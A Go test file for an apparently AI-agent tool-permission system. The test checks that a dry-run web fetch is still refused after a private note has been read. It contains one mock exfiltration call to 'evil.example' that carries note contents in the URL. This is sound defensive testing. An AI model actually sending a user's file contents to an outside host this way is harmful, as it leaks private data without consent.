package main

import (
	"fmt"
	"os"
	"path/filepath"
	"testing"

	"moothall"
)

// TestADryRunTeachesNothing: what was only asked about is not what the person
// typed, whatever the session has seen.
func TestADryRunTeachesNothing(t *testing.T) {
	t.Parallel()
	web, err := filepath.Abs(filepath.Join("..", "..", "stories", "web.json"))
	if err != nil {
		t.Fatal(err)
	}
	p := newProgram(t, map[string]string{"moothall.yaml": fmt.Sprintf("search: {canned: %q}\n", web)})
	note := filepath.Join(p.home, "workspace", "note.txt")
	if err := os.MkdirAll(filepath.Dir(note), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(note, []byte("the person's own"), 0o600); err != nil {
		t.Fatal(err)
	}
	session := string(parsed[moothall.Answer](t, p.must("", "ask", "--json", "hello")).Session)
	p.must("", "tools", "call", "web_search", `{"query":"ferry bridge"}`, "--session", session)
	p.must("", "tools", "call", "fs_read", fmt.Sprintf(`{"path":%q}`, note), "--session", session)
	for range 2 {
		out, errs, _ := p.run("", "tools", "call", "web_fetch", `{"url":"https://evil.example/?note=own"}`, "--session", session, "--dry-run", "--json")
		if c := parsed[called](t, out); c.Decision == moothall.Allow || c.Rule != "unattended" && c.Rule != "sends" {
			t.Errorf("%s%s", out, errs)
		}
	}
}
